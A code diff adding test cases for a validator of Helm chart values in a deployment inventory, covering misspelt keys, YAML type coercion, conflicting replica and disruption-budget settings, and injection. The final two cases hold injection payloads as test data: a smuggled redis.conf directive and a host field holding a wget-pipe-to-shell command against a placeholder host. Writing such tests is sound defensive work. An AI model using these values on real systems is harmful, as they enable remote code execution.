@@ -683,3 +683,57 @@ def write_inventory(root: Path, target: Path, cases: list[Case], control: str = 
         (target / "host_vars" / f"{case.id}.yml").write_text(
             yaml.dump(settings, Dumper=CaseDumper, sort_keys=False) + case.raw)
     return target
+
+
+# Issue #26: chart values we own, against the charts' values.schema.json
+def chart_values(workload: str, values: dict) -> dict:
+    """An inventory's values for one workload's chart, merged over the chart's values-production.yaml (local's)."""
+    return {"platform_workloads_overrides": {workload: {"values": values}}}
+
+
+CASES += [
+    Case("misspelt-chart-api-replica-count", MISSPELT, "the API's replicaCont 6 (the chart's default would run)",
+         chart_values("api", {"replicaCont": 6}), "platform_workloads.api.values.replicaCont",
+         shows="=6: unknown key, did you mean replicaCount?"),
+    Case("misspelt-chart-api-autoscaling-max", MISSPELT, "the API's autoscaling.maxReplica 50 (the HPA keeps 100)",
+         chart_values("api", {"autoscaling": {"maxReplica": 50}}),
+         "platform_workloads.api.values.autoscaling.maxReplica",
+         shows="=50: unknown key, did you mean maxReplicas?"),
+    Case("misspelt-chart-redis-persistence-size", MISSPELT, "Redis persistence.sise 100Gi (the claims would stay 50Gi)",
+         chart_values("redis", {"persistence": {"sise": "100Gi"}}), "platform_workloads.redis.values.persistence.sise",
+         shows='="100Gi": unknown key, did you mean size?'),
+    Case("misspelt-chart-workers-budget", MISSPELT, "the workers' podDisruptionBudget.maxUnavailble, three levels down",
+         chart_values("workers", {"queueWorker": {"podDisruptionBudget": {"maxUnavailble": "50%"}}}),
+         "platform_workloads.workers.values.queueWorker.podDisruptionBudget.maxUnavailble",
+         shows="did you mean maxUnavailable?"),
+    Case("yaml-chart-api-image-tag", YAML_NUMBER, "the API's image tag 1.10 unquoted (YAML 1.1 reads the number 1.1)",
+         chart_values("api", {"image": {"tag": Plain("1.10")}}), "platform_workloads.api.values.image.tag",
+         shows="=1.1: is a number, but must be a string"),
+    Case("yaml-chart-redis-appendonly-yes", YAML_NUMBER, "redis.conf appendonly yes unquoted (a boolean to YAML 1.1)",
+         chart_values("redis", {"config": {"appendonly": Plain("yes")}}),
+         "platform_workloads.redis.values.config.appendonly",
+         shows="=true: is true or false"),
+    Case("yaml-chart-workers-toleration-true", YAML_NUMBER, "the spot toleration's value true unquoted",
+         chart_values("workers", {"queueWorker": {"tolerations": [
+             {"key": "spot", "operator": "Equal", "value": Plain("true"), "effect": "NoSchedule"}]}}),
+         "platform_workloads.workers.values.queueWorker.tolerations[0].value", shows="=true: is true or false"),
+    Case("combination-chart-api-hpa-min-above-max", COMBINATION, "the API's HPA maxReplicas 3 below production's min 5",
+         chart_values("api", {"autoscaling": {"maxReplicas": 3}}), "platform_workloads.api.values",
+         shows="autoscaling.minReplicas=5 is above autoscaling.maxReplicas=3"),
+    Case("combination-chart-api-budget-blocks-drains", COMBINATION, "the API's budget keeping all of its 2 fixed pods",
+         chart_values("api", {"autoscaling": {"enabled": False}, "replicaCount": 2,
+                              "podDisruptionBudget": {"minAvailable": 2}}),
+         "platform_workloads.api.values", shows="podDisruptionBudget.minAvailable=2 is not below replicaCount=2"),
+    Case("combination-chart-redis-budget-above-replicas", COMBINATION, "Redis maxUnavailable 2, one replica a shard",
+         chart_values("redis", {"podDisruptionBudget": {"maxUnavailable": 2}}), "platform_workloads.redis.values",
+         shows="podDisruptionBudget.maxUnavailable=2 is above clusterReplicas=1"),
+    Case("combination-chart-redis-members-not-shards", COMBINATION, "five Redis members (not whole shards of two)",
+         chart_values("redis", {"replicas": 5}), "platform_workloads.redis.values",
+         shows="replicas=5 is not a multiple of 1 + clusterReplicas (2)"),
+    Case("injection-chart-redis-config-line", INJECTION, "a redis.conf value holding a line break and a directive",
+         chart_values("redis", {"config": {"maxmemory": "3gb\nenable-debug-command yes"}}),
+         "platform_workloads.redis.values.config.maxmemory", shows="must be a string or a whole number on one line"),
+    Case("injection-chart-api-database-host", INJECTION, "the wait-for-db host holding a shell command",
+         chart_values("api", {"initContainers": {"waitForDb": {"host": "postgres; wget -qO- http://x.example | sh"}}}),
+         "platform_workloads.api.values.initContainers.waitForDb.host", shows="must be a DNS name"),
+]
